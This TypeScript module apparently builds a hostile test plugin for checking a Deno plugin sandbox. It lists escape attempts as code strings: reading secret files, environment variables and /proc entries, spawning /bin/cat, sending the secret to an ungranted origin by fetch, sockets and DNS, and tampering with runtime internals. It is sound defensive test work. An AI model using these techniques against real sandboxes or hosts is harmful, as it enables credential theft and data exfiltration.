/**
 * What hostile plugins try.
 *
 * @module
 */

/** Where an attack takes place; it gets this as JSON. */
export interface World {
  /** What must not be read by a plugin, nor be sent anywhere. */
  readonly secret: string;
  /** A folder with files that hold the secret: `secret.txt`, `.json`, `.js`, `.wasm`. */
  readonly folder: string;
  /** The plugin's own origin. */
  readonly own: string;
  /** An origin that it was not granted. */
  readonly other: string;
  /** A granted host that redirects `/to-other?…` to the other origin. */
  readonly allowed: string;
  /** A granted name that leads to a server on this machine. */
  readonly named: string;
}

/** One way out of a sandbox. */
export interface Attack {
  readonly name: string;
  /** The body of an async function of `world`: returns what it read, or the secret once it is out. */
  readonly code: string;
  /** What its error says where it fails; that a permission is missing by default. */
  readonly refusal?: RegExp;
}

const PERMISSION = /Requires \w+ access|NotCapable/;
const NOT_CACHED = /not found in cache|--cached-only/;

/** How an attack has to fail. */
export function refusalOf({ refusal = PERMISSION }: Attack): RegExp {
  return refusal;
}

/** Starts a worker and returns what it says first. */
const WORKER = `
function script(text) { return "data:text/javascript," + encodeURIComponent(text); }
function blob(text) { return URL.createObjectURL(new Blob([text], { type: "text/javascript" })); }
function worker(url) {
  return new Promise((resolve, reject) => {
    const started = new Worker(url, { type: "module" });
    const end = (settle, value) => { started.terminate(); settle(value); };
    started.onmessage = ({ data }) => data.error ? end(reject, new Error(data.error)) : end(resolve, data.text);
    started.onerror = (event) => { event.preventDefault(); end(reject, new Error(event.message)); };
  });
}
const READING = (file) => \`try { postMessage({ text: Deno.readTextFileSync(\${JSON.stringify(file)}) }); }
  catch (error) { postMessage({ error: String(error) }); }\`;
`;

const READS: readonly Attack[] = [
  {
    name: "Deno.readTextFile",
    code: "return await Deno.readTextFile(world.folder + '/secret.txt');",
  },
  {
    name: "Deno.open",
    code:
      "using file = await Deno.open(world.folder + '/secret.txt'); return await new Response(file.readable).text();",
  },
  {
    name: "Deno.readDir",
    code:
      "for await (const { name } of Deno.readDir(world.folder)) if (name === 'secret.txt') return world.secret;",
  },
  {
    name: "fetch of a file",
    code: "return await (await fetch('file://' + world.folder + '/secret.txt')).text();",
  },
  {
    name: "node:fs",
    code: "return (await import('node:fs')).readFileSync(world.folder + '/secret.txt', 'utf8');",
  },
  {
    name: "node:fs/promises",
    code:
      "return await (await import('node:fs/promises')).readFile(world.folder + '/secret.txt', 'utf8');",
  },
  {
    name: "node:module createRequire",
    code:
      "return JSON.stringify((await import('node:module')).createRequire('file://' + world.folder + '/x.js')('./secret.json'));",
  },
  {
    name: "node:sqlite",
    code:
      "const { DatabaseSync } = await import('node:sqlite'); new DatabaseSync(world.folder + '/written.db').exec('create table a (b)'); return world.secret;",
  },
  {
    name: "the parent's file descriptors",
    code: `const folder = "/proc/" + Deno.ppid + "/fd";
    for (const { name } of Deno.readDirSync(folder)) {
      const target = (() => { try { return Deno.readLinkSync(folder + "/" + name); } catch { return ""; } })();
      if (target.endsWith("/secret.txt")) return Deno.readTextFileSync(folder + "/" + name);
    }`,
  },
  {
    name: "the parent's memory map",
    code: "Deno.readTextFileSync('/proc/' + Deno.ppid + '/maps'); return world.secret;",
  },
  { name: "/proc/self/environ", code: "return Deno.readTextFileSync('/proc/self/environ');" },
];

const IMPORTS: readonly Attack[] = [
  {
    name: "import of a file",
    code: "return (await import('file://' + world.folder + '/secret.js')).default;",
  },
  {
    name: "import of JSON",
    code:
      "return JSON.stringify((await import('file://' + world.folder + '/secret.json', { with: { type: 'json' } })).default);",
  },
  {
    name: "import of a path",
    code:
      "await import('/' + world.secret + '.js').catch((error) => { if (!/404|Module not found/.test(error.message)) throw error; }); return world.secret;",
    refusal: NOT_CACHED,
  },
  {
    name: "import through data:",
    code:
      "return (await import(script('export { default } from ' + JSON.stringify('file://' + world.folder + '/secret.js')))).default;",
  },
  {
    name: "import through blob:",
    code:
      "return (await import(blob('export { default } from ' + JSON.stringify('file://' + world.folder + '/secret.js')))).default;",
  },
  {
    name: "dynamic import in data:",
    code:
      "return (await import(script('export default (await import(' + JSON.stringify('file://' + world.folder + '/secret.js') + ')).default'))).default;",
  },
  {
    name: "import of its own origin with data",
    code: "await import(world.own + '/plugin.js?' + world.secret); return world.secret;",
    refusal: NOT_CACHED,
  },
  {
    name: "import of a new module of its own origin",
    code:
      "await import(world.own + '/' + world.secret + '.js').catch((error) => { if (!/404|Module not found/.test(error.message)) throw error; }); return world.secret;",
    refusal: NOT_CACHED,
  },
  {
    name: "import of another origin",
    code:
      "await import(world.other + '/' + world.secret + '.js').catch((error) => { if (!/404|Module not found/.test(error.message)) throw error; }); return world.secret;",
  },
  {
    name: "import of another origin through data:",
    code:
      "await import(script('import ' + JSON.stringify(world.other + '/x.js?' + world.secret))); return world.secret;",
  },
];

const WORKERS: readonly Attack[] = [
  {
    name: "a worker reads",
    code: "return await worker(script(READING(world.folder + '/secret.txt')));",
  },
  {
    name: "a blob worker reads",
    code: "return await worker(blob(READING(world.folder + '/secret.txt')));",
  },
  {
    name: "a worker imports statically",
    code:
      "return await worker(script('import text from ' + JSON.stringify('file://' + world.folder + '/secret.js') + '; postMessage({ text });'));",
  },
  {
    name: "a blob worker imports statically",
    code:
      "return await worker(blob('import text from ' + JSON.stringify('file://' + world.folder + '/secret.js') + '; postMessage({ text });'));",
  },
  {
    name: "a worker in a worker reads",
    code:
      "return await worker(script('const inner = new Worker(' + JSON.stringify(script(READING(world.folder + '/secret.txt'))) + ', { type: \"module\" }); inner.onmessage = ({ data }) => postMessage(data);'));",
  },
  {
    name: "a worker from a file",
    code: "return await worker('file://' + world.folder + '/worker.js');",
  },
  {
    name: "a worker from another origin",
    code: "return await worker(world.other + '/worker.js?' + world.secret);",
  },
  {
    name: "a worker from its own origin",
    code: "return await worker(world.own + '/worker.js?' + world.secret);",
    refusal: NOT_CACHED,
  },
  {
    name: "a worker fetches",
    code:
      "return await worker(script('try { await fetch(' + JSON.stringify(world.other + '/' + world.secret) + '); postMessage({ text: ' + JSON.stringify(world.secret) + ' }); } catch (error) { postMessage({ error: String(error) }); }'));",
  },
  {
    name: "node:worker_threads",
    code: `const { Worker: Thread } = await import("node:worker_threads");
    return await new Promise((resolve, reject) => {
      const thread = new Thread("const { parentPort } = require('node:worker_threads'); try { parentPort.postMessage({ text: require('node:fs').readFileSync(" + JSON.stringify(world.folder + "/secret.txt") + ", 'utf8') }); } catch (error) { parentPort.postMessage({ error: String(error) }); }", { eval: true });
      thread.on("message", ({ text, error }) => { thread.terminate(); error ? reject(new Error(error)) : resolve(text); });
      thread.on("error", reject);
    });`,
  },
];

const NETWORK: readonly Attack[] = [
  {
    name: "fetch of another host",
    code: "await fetch(world.other + '/' + world.secret); return world.secret;",
  },
  {
    name: "fetch of its own origin",
    code: "await fetch(world.own + '/' + world.secret); return world.secret;",
  },
  {
    name: "another port of a granted host",
    code:
      "await fetch(world.other + '/' + world.secret, { method: 'POST', body: world.secret }); return world.secret;",
  },
  {
    name: "an address in another form",
    code:
      "await fetch('http://2130706433:' + new URL(world.other).port + '/' + world.secret); return world.secret;",
  },
  {
    name: "a redirect to another host",
    code:
      "await (await fetch(world.allowed + '/to-other?' + world.secret)).text(); return world.secret;",
  },
  {
    name: "a WebSocket",
    code:
      "await new Promise((resolve, reject) => { const socket = new WebSocket(world.other.replace('http', 'ws') + '/' + world.secret); socket.onopen = resolve; socket.onerror = (event) => /Requires/.test(event.message) ? reject(new Error(event.message)) : resolve(); }); return world.secret;",
  },
  {
    name: "an EventSource",
    code:
      "await new Promise((resolve, reject) => { const source = new EventSource(world.other + '/' + world.secret); source.onerror = () => { source.close(); resolve(); }; source.onopen = source.onerror; setTimeout(() => reject(new Error('silent')), 2000); }); throw new Deno.errors.NotCapable('an EventSource says nothing of its refusal');",
    refusal: /says nothing of its refusal/,
  },
  {
    name: "Deno.connect",
    code:
      "using connection = await Deno.connect({ hostname: '127.0.0.1', port: Number(new URL(world.other).port) }); await connection.write(new TextEncoder().encode('GET /' + world.secret + ' HTTP/1.0\\r\\n\\r\\n')); await connection.read(new Uint8Array(10)); return world.secret;",
  },
  {
    name: "Deno.connect to a Unix socket",
    code:
      "using _ = await Deno.connect({ transport: 'unix', path: world.folder + '/socket' }); return world.secret;",
  },
  {
    name: "Deno.listen",
    code: "using _ = Deno.listen({ hostname: '127.0.0.1', port: 0 }); return world.secret;",
  },
  {
    name: "Deno.listenDatagram",
    code: "using _ = Deno.listen({ hostname: '0.0.0.0', port: 0 }); return world.secret;",
  },
  {
    name: "Deno.resolveDns",
    code:
      "await Deno.resolveDns(world.secret + '.localhost', 'A', { nameServer: { ipAddr: '127.0.0.1', port: 9 } }).catch((error) => { if (/Requires/.test(error.message)) throw error; }); return world.secret;",
  },
  {
    name: "node:dns",
    code:
      "const dns = await import('node:dns'); await new Promise((resolve, reject) => dns.lookup('localhost', (error) => error ? reject(error) : resolve())); return world.secret;",
    refusal: /EPERM|Requires net access/,
  },
  {
    name: "node:net",
    code:
      "const net = await import('node:net'); await new Promise((resolve, reject) => { const socket = net.connect(Number(new URL(world.other).port), '127.0.0.1', () => { socket.end('GET /' + world.secret + ' HTTP/1.0\\r\\n\\r\\n'); socket.on('data', resolve); }); socket.on('error', reject); }); return world.secret;",
  },
  {
    name: "node:http",
    code:
      "const http = await import('node:http'); await new Promise((resolve, reject) => http.get(world.other + '/' + world.secret, (response) => { response.resume(); resolve(); }).on('error', reject)); return world.secret;",
  },
  {
    name: "node:dgram",
    code:
      "const dgram = await import('node:dgram'); const socket = dgram.createSocket('udp4'); try { await new Promise((resolve, reject) => { socket.on('error', reject); globalThis.addEventListener('error', ({ error }) => reject(error), { once: true }); socket.bind(0, '127.0.0.1', resolve); }); } finally { try { socket.close(); } catch {} } return world.secret;",
  },
];

const SYSTEM: readonly Attack[] = [
  {
    name: "Deno.writeTextFile",
    code: "await Deno.writeTextFile(world.folder + '/written', world.secret); return world.secret;",
  },
  { name: "Deno.makeTempDir", code: "await Deno.makeTempDir(); return world.secret;" },
  {
    name: "Deno.remove",
    code:
      "await Deno.writeTextFile(world.folder + '/gone', ''); await Deno.remove(world.folder + '/gone'); return world.secret;",
  },
  {
    name: "Deno.symlink",
    code:
      "await Deno.symlink(world.folder + '/secret.txt', world.folder + '/link'); await Deno.remove(world.folder + '/link'); return world.secret;",
    refusal: /requires unscoped --allow-read/,
  },
  {
    name: "node:v8 heap snapshot",
    code:
      "(await import('node:v8')).writeHeapSnapshot(world.folder + '/written.heap'); return world.secret;",
  },
  {
    name: "localStorage",
    code: "localStorage.setItem('left', world.secret); return localStorage.getItem('left');",
    refusal: /./,
  },
  {
    name: "caches",
    code:
      "const cache = await caches.open('left'); await cache.put('http://a/b', new Response(world.secret)); return await (await cache.match('http://a/b')).text();",
    refusal: /./,
  },
  { name: "Deno.env.get", code: "return Deno.env.get('LEFT_OVER');" },
  { name: "Deno.env.toObject", code: "return JSON.stringify(Deno.env.toObject());" },
  { name: "process.env", code: "return (await import('node:process')).default.env.LEFT_OVER;" },
  {
    name: "all of process.env",
    code: "return JSON.stringify({ ...(await import('node:process')).default.env });",
  },
  {
    name: "Deno.Command",
    code:
      "const { stdout } = await new Deno.Command('/bin/cat', { args: [world.folder + '/secret.txt'] }).output(); return new TextDecoder().decode(stdout);",
  },
  {
    name: "node:child_process",
    code:
      "return String((await import('node:child_process')).execFileSync('/bin/cat', [world.folder + '/secret.txt'], { env: {} }));",
  },
  { name: "a signal to the parent", code: "Deno.kill(Deno.ppid, 'SIGCONT'); return world.secret;" },
  {
    name: "process.kill",
    code:
      "const { default: process } = await import('node:process'); process.kill(process.ppid, 'SIGCONT'); return world.secret;",
  },
  {
    name: "Deno.dlopen",
    code:
      "const library = Deno.dlopen('libc.so.6', { getpid: { parameters: [], result: 'i32' } }); return library.symbols.getpid() === Deno.pid ? world.secret : '';",
  },
  { name: "Deno.hostname", code: "return Deno.hostname() && world.secret;" },
  {
    name: "Deno.systemMemoryInfo",
    code: "return Deno.systemMemoryInfo().total ? world.secret : '';",
  },
  { name: "Deno.networkInterfaces", code: "return Deno.networkInterfaces() && world.secret;" },
  {
    name: "node:os",
    code: "return (await import('node:os')).userInfo().username && world.secret;",
  },
  {
    name: "node:inspector",
    code: "(await import('node:inspector')).open(0, '127.0.0.1'); return world.secret;",
    refusal: PERMISSION,
  },
  {
    name: "Deno.chdir",
    code:
      "Deno.chdir(world.folder); return Deno.cwd() === world.folder ? world.secret : Deno.cwd();",
  },
  {
    name: "Deno.permissions.request",
    code:
      "for (const name of ['read', 'net', 'env', 'run']) await Deno.permissions.request({ name }); return await Deno.readTextFile(world.folder + '/secret.txt');",
  },
  {
    name: "changed primordials",
    code:
      `Object.prototype.read = true; Object.prototype.permissions = "inherit"; Array.prototype.includes = () => true; String.prototype.startsWith = () => true;
    try { return await Deno.readTextFile(world.folder + "/secret.txt"); }
    finally { delete Object.prototype.read; delete Object.prototype.permissions; }`,
  },
  {
    name: "Deno's internals",
    code:
      "const { core } = Deno[Deno.internal]; const { op_fs_read_file_text_sync: read } = core.ops; return read ? read(world.folder + '/secret.txt') : Deno.readTextFileSync(world.folder + '/secret.txt');",
    refusal: /./,
  },
];

/** A name that was granted leads to this machine: tried by a plugin that was granted nothing else. */
export const NAMED: Attack = {
  name: "a name that leads to this machine",
  code: "await (await fetch(world.named + '/' + world.secret)).text(); return world.secret;",
};

/** All of them. */
export const ATTACKS: readonly Attack[] = [
  ...READS,
  ...IMPORTS,
  ...WORKERS,
  ...NETWORK,
  ...SYSTEM,
];

/** A plugin that tries the attack that a request names: `{ attack, world }` as JSON. */
export function hostilePlugin(
  attacks: readonly Attack[],
  grant: { readonly net: readonly string[] },
): string {
  const functions = attacks.map(({ name, code }) =>
    `  ${JSON.stringify(name)}: async (world) => { ${code} },`
  );
  return `${WORKER}
const ATTACKS = {
${functions.join("\n")}
};
/** A worker that is refused may say nothing at all. */
function inTime(attempt) {
  const late = new Promise((_, reject) => setTimeout(() => reject(new Error("nothing came of it")), 20_000));
  return Promise.race([attempt, late]);
}
/** A refusal may be the cause of an error, or its cause's cause. */
function wholeMessage(error) {
  return error?.cause ? error.message + ": " + wholeMessage(error.cause) : String(error?.message ?? error);
}
export default {
  [Symbol.for("dotevals.provider")]: 1,
  name: "hostile",
  permissions: ${JSON.stringify(grant)},
  setup: (spec) => ({
    resourceId: spec,
    model: {
      async generate(request) {
        const { attack, world } = JSON.parse(typeof request === "string" ? request : request.messages[0].content);
        try {
          return { text: String(await inTime(ATTACKS[attack](world))) };
        } catch (error) {
          throw new Error(wholeMessage(error));
        }
      },
    },
    teardown() {},
  }),
};
`;
}
